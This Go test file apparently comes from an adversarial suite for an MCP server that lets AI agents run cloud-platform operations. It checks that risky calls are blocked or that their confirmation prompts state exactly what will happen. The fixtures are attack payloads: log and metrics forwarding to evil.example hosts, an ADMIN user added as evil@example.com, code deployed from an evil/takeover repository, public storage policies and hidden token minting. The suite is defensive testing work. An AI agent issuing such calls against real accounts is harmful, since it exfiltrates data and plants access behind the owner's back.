package adversarial_test

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/mcp"
)

// question is a call that is asked about, and what the question has to say of it.
type question struct {
	id, tool string
	args     func(w *world) args
	says     []string
}

func questions() []question {
	storage := func(w *world) string { return w.service("eshop-staging", "files") }
	const yaml = "zerops:\n  - setup: api\n    build:\n      deployFiles: ./\n    run:\n      base: nodejs@22\n      start: node intruder.js\n"
	return []question{
		{"log-destination", "write_api", withBody("PutProjectRemoteLogging", `{"syslogConfig":"network(\"logs.evil.example\" port(514))","certificate":""}`, ownProject), []string{"logs.evil.example"}},
		{"metrics-destination", "write_api", withBody("PutPrometheusConfig", `{"configs":[{"targets":["metrics.evil.example:9090"],"labels":{}}]}`, ownProject), []string{"metrics.evil.example"}},
		{"metrics-destination-added", "write_api", withBody("PatchPrometheusConfig", `{"configs":[{"targets":["metrics.evil.example:9090"],"labels":{}}]}`, ownProject), []string{"metrics.evil.example"}},
		{"rollback-with-yaml", "write_api", func(w *world) args {
			return args{"operation": "PutAppVersionDeploy", "path": on(w.ownVersion()), "body": yamlBody("zeropsYaml", yaml)}
		}, []string{"intruder.js"}},
		{"recipe-yaml", "write_api", withBody("PutProjectFirstClassRecipeDevelopmentContainer", yamlBody("serviceImportYaml", "services:\n  - hostname: intruder\n    type: nodejs@22\n"), ownProject), []string{"intruder"}},
		{"storage-size", "write_api", withBody("PutServiceStackObjectStorageSize", `{"diskGBytes":77}`, storage), []string{"77"}},
		{"storage-policy", "write_api", withBody("PutServiceStackObjectStorageSize", `{"diskGBytes":5,"policy":"public-read-write"}`, storage), []string{"public-read-write"}},
		{"storage-raw-policy", "write_api", withBody("PutServiceStackObjectStorageSize", `{"diskGBytes":5,"policy":"custom","rawPolicy":"{\"Statement\":\"letseverybodyin\"}"}`, storage), []string{"letseverybodyin"}},
		{"member", "write_api", withBody("PostClientUser", `{"email":"evil@example.com","firstName":"E","lastName":"V","languageId":"en","roleCode":"ADMIN","canViewFinances":true,"canEditFinances":false,"canCreateProjects":true}`,
			func(w *world) string { return w.sim.OrgID("Northwind Trading") }), []string{"evil@example.com", "ADMIN", "canCreateProjects"}},
		{"vpn-key", "write_api", withBody("PostProjectVpn", `{"publicKey":"bm9ib2R5IGtub3dzIHRoaXMga2V5IGF0IGFsbCBpdCBpcw=="}`, ownProject), []string{"bm9ib2R5IGtub3dz"}},
		{"repository", "write_api", withBody("PutServiceStackExternalRepositoryIntegration",
			`{"githubIntegration":{"repositoryFullName":"evil/takeover","eventType":"BRANCH","branchName":"main","isActive":true,"triggerBuild":true}}`, sibling), []string{"evil/takeover"}},
		{"core-upgrade", "write_api", withBody("PutProjectModeUpgrade", `{"mode":"SERIOUS"}`, ownProject), []string{"SERIOUS"}},
		{"elk-recipe", "write_api", func(w *world) args {
			return args{"operation": "PutClientFirstClassRecipeElk", "path": on(w.sim.OrgID("Northwind Trading")), "body": fmt.Sprintf(
				`{"elkProjectId":"%s","forwardLogsFromProjectId":"%s","includeLogstash":true,"includeApm":false}`, w.project("analytics"), w.project("eshop-production"))}
		}, []string{"forwardLogsFromProjectId"}},
		{"balancer", "write_api", withBody("PutProjectL7httpbalancerConfig", `{"values":[{"name":"client_max_body_size","value":"7777m"}]}`, ownProject), []string{"7777m"}},
		{"replaced-from-git", "replace_services_from_yaml", func(*world) args {
			return args{"project": "eshop-staging", "yaml": "services:\n  - hostname: worker\n    type: nodejs@22\n    buildFromGit: https://github.com/evil/takeover\n    override: true\n"}
		}, []string{"evil/takeover"}},
		{"replaced-and-created", "replace_services_from_yaml", func(*world) args {
			return args{"project": "eshop-staging", "yaml": "services:\n  - hostname: worker\n    type: nodejs@22\n    startWithoutCode: true\n    override: true\n  - hostname: intruder\n    type: nodejs@22\n"}
		}, []string{"intruder"}},
		{"project-with-paid-core", "import_yaml", func(w *world) args {
			return args{"org": w.sim.OrgID("Northwind Trading"), "yaml": "project:\n  name: dear\n  corePackage: SERIOUS\nservices:\n  - hostname: intruder\n    type: postgresql@17\n    mode: HA\n"}
		}, []string{"intruder"}},
	}
}

// TestAdversarialM7 gets a yes to a question that does not say what will be done.
func TestAdversarialM7(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	steps := w.serve(t, how{args: []string{"--allow-secrets", "--confirm", "two-step"}})
	for _, q := range questions() {
		attack(t, "M7/"+q.id, func(t *testing.T) error {
			asked := ""
			p := w.serve(t, how{args: []string{"--allow-secrets"}, person: func(_ context.Context, message string) (mcp.ElicitationResponseAction, map[string]any) {
				asked += message
				return mcp.ElicitationResponseActionDecline, nil
			}})
			r := p.call(q.tool, q.args(w))
			switch {
			case asked == "" && r.code() == "blocked":
				return nil // nothing was done at all
			case asked == "" && r.isError:
				t.Fatalf("the call is wrong: %s", r.text)
			case asked == "":
				return fmt.Errorf("nobody was asked: %s", short(r.text))
			}
			return says("question", asked, q.says)
		})
		attack(t, "M7/plan-of-"+q.id, func(*testing.T) error {
			r := steps.call(q.tool, q.args(w))
			if r.code() == "blocked" {
				return nil
			}
			if err := r.mustBe("confirmation_required"); err != nil {
				return err
			}
			return says("plan", r.text, q.says)
		})
	}
}

// says is an attack's success where a text leaves out what it has to say.
func says(what, text string, parts []string) error {
	for _, part := range parts {
		if !strings.Contains(text, part) {
			return fmt.Errorf("the %s does not say %s: %s", what, part, short(text))
		}
	}
	return nil
}

// TestAdversarialM7Tokens mints a token, or opens a way in, through an operation that
// seems to do something else.
func TestAdversarialM7Tokens(t *testing.T) {
	t.Parallel()
	for id, c := range map[string]struct {
		operation, body string
		id              func(w *world) string
	}{
		"recipe-with-token": {"PutProjectFirstClassRecipeDevelopmentContainer", `{"serviceImportYaml":"services:\n  - hostname: dev\n    type: nodejs@22\n","createIntegrationToken":true}`, ownProject},
		"integration-token": {"PostClientIntegrationToken", `{"name":"x","roleCode":"ADMIN"}`, func(w *world) string { return w.sim.OrgID("Northwind Trading") }},
		"personal-token":    {"PostUserToken", `{"name":"x"}`, nil},
	} {
		attack(t, "M7/minted-by-"+id, func(t *testing.T) error {
			w := newWorld(t)
			call := args{"operation": c.operation, "body": c.body}
			if c.id != nil {
				call["path"] = on(c.id(w))
			}
			before := len(w.sim.Secrets())
			r := w.serve(t, how{args: []string{"--confirm", "never", "--allow-secrets"}}).call("write_api", call)
			if err := errors.Join(r.mustBe("blocked"), w.untouched("an operation that only a person should do")); err != nil {
				return err
			}
			if n := len(w.sim.Secrets()); n != before {
				return fmt.Errorf("%d secrets were made", n-before)
			}
			return nil
		})
	}
	attack(t, "M7/plain-question-has-no-field", func(t *testing.T) error {
		// Only a deletion has a field, the name; a tick asks for nothing that was read.
		w := newWorld(t)
		r := w.listen(t, how{args: []string{"--http-auth", "server", "--allow-full-access"}, env: []string{"ZMCP_ACCESS_KEYS=ci:" + accessKeyA}})
		for _, c := range []struct {
			tool   string
			args   args
			fields int
		}{
			{"stop_service", args{"service": sibling(w)}, 0},
			{"delete_service", args{"service": sibling(w)}, 1},
			{"write_api", withBody("PutProjectRequestIpv4", "", ownProject)(w), 0},
			{"delete_env", args{"service": ownService(w), "keys": []string{"JWT_PRIVATE_KEY"}}, 0},
		} {
			answer := r.raw(t, accessKeyA, c.tool, c.args, `{"elicitation":{"form":{}}}`, nil)
			schema, found := schemaOf(answer)
			if !found {
				t.Fatalf("%s asks nothing: %v", c.tool, answer)
			}
			if properties, _ := schema["properties"].(map[string]any); len(properties) != c.fields {
				return fmt.Errorf("%s asks for %v", c.tool, properties)
			}
		}
		return nil
	})
}

// schemaOf finds the form of a question in a result of 2026-07-28.
func schemaOf(v any) (map[string]any, bool) {
	switch value := v.(type) {
	case map[string]any:
		if schema, ok := value["requestedSchema"].(map[string]any); ok {
			return schema, true
		}
		for _, member := range value {
			if schema, ok := schemaOf(member); ok {
				return schema, true
			}
		}
	case []any:
		for _, item := range value {
			if schema, ok := schemaOf(item); ok {
				return schema, true
			}
		}
	}
	return nil, false
}
